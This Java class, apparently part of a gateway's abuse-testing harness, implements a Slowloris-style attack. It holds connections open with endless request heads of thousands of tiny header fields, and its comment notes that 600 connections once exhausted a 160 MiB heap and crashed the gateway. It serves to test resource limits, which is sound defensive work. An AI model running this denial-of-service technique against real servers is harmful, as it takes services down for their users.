package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Sockets;
import gatehouse.abuse.Target;
import gatehouse.abuse.Trickle;
import java.io.IOException;
import java.net.Socket;
import java.time.Duration;

/**
 * Slowloris with many small fields: {@code connections} request heads that never end, each opening
 * with 3,000 five-byte fields (15 KB, under {@code limits.max_header_size}) and growing by one a
 * second; a connection the gateway closes is opened again. Each field costs the decoder about 30
 * times its bytes in heap while the head is unfinished: before {@code limits.max_header_fields},
 * 600 such connections exhausted the launcher's 160 MiB heap and the gateway exited. Volume:
 * connections opened.
 */
public final class SlowlorisFields implements Attack {
  private static final String FIELDS = "a:b\r\n".repeat(3000);
  private final int connections;

  public SlowlorisFields(int connections) {
    this.connections = connections;
  }

  @Override
  public String name() {
    return "slowloris with many small fields";
  }

  @Override
  public String unit() {
    return "connections";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    return Trickle.hold(connections, duration, slot -> Trickle.socket(head(target), line -> "b:" + line + "\r\n"));
  }

  private static Socket head(Target target) throws IOException {
    Socket s = Sockets.connect(target.port());
    Sockets.write(s, "GET " + Target.ATTACK + "fields HTTP/1.1\r\nHost: gw.test\r\n" + FIELDS);
    return s;
  }
}
